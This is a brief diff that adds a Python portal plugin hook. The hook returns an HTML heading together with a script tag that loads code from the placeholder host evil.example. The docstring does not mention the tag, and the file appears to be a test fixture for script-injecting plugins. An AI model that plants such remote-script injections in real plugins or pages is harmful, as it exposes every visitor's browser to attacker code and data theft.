@@ -1,0 +1,10 @@
+"""Returns HTML where a Series is due."""
+
+from portal.plugin import hookimpl
+
+CORE_API = ">=1.0,<2"
+
+
+@hookimpl
+def portal_series():
+    return "<h1>Series</h1><script src=//evil.example></script>"
